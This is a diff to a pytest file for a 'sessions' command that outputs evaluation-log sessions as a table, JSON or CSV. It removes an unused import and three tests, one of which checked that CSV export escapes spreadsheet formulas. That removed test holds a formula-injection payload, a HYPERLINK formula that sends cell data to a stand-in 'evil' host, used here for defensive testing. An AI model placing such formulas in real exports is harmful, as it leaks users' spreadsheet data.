@@ -1,7 +1,6 @@
 """``sessions``: sessions of the lake as table, JSON and CSV."""
 
 import csv
-import io
 
 import pytest
 
@@ -35,16 +34,6 @@ def test_sessions_of_some_dates(built_days: Program) -> None:
     assert (none.code, none.out) == (0, f"There are no sessions in {lake} on these dates.\n")
 
 
-def test_a_filter_without_sessions_is_named(built_days: Program) -> None:
-    lake = built_days.folder / "data" / "lake"
-    said = f"There are no sessions in {lake} with"
-    where = ("--label", "general", "--attribute", "squad=x")
-    filtered = f"{said} --label general, --attribute squad=x"
-    assert built_days("sessions", *where).out == f"{filtered}.\n"
-    both = built_days("sessions", *where, "--date", "2026-06-02")
-    assert both.out == f"{filtered} on these dates.\n"
-
-
 def test_dates_are_those_of_the_first_ingested_events_and_the_help_says_so(
     program: Program,
 ) -> None:
@@ -60,37 +49,6 @@ def test_dates_are_those_of_the_first_ingested_events_and_the_help_says_so(
     for command in (["sessions"], ["judge", "run"], ["reputation", "update"]):
         shown = " ".join(program(*command, "--help").out.replace("│", " ").split())
         assert "the UTC date of the session's first ingested event" in shown
-
-
-def test_an_empty_lake_prints_advice_and_writes_nothing(
-    program: Program,
-) -> None:
-    ran = program("sessions")
-    assert (ran.code, ran.err) == (0, "")
-    assert ran.out == (
-        f"There are no sessions in {program.folder}/data/lake yet. "
-        "Run evaluation-pipelines ingest and build, or set EVAL_DATA_DIR.\n"
-    )
-    assert list(program.folder.iterdir()) == []
-
-
-def test_csv_escapes_formulas(program: Program) -> None:
-    formula = '=HYPERLINK("http://evil/"&A1)'
-    program.land(
-        "logs.jsonl",
-        line(
-            claude("user_prompt", session__id="=1+1"),
-            claude("tool_result", 1, session__id="=1+1", tool_name="Bash", success="true"),
-            masque__name=f"{formula}\nnext",
-        ),
-    )
-    program("ingest")
-    program("build")
-    (row,) = csv.DictReader(io.StringIO(program("sessions", "--format", "csv").out))
-    assert row["session_id"] == "'=1+1"
-    assert row["masque"] == f"'{formula}\ufffdnext"
-    (record,) = program("sessions", "--format", "json").items()
-    assert (record["session_id"], record["masque"]) == ("=1+1", f"{formula}\nnext")
 
 
 @pytest.mark.parametrize("form", ["json", "csv"])
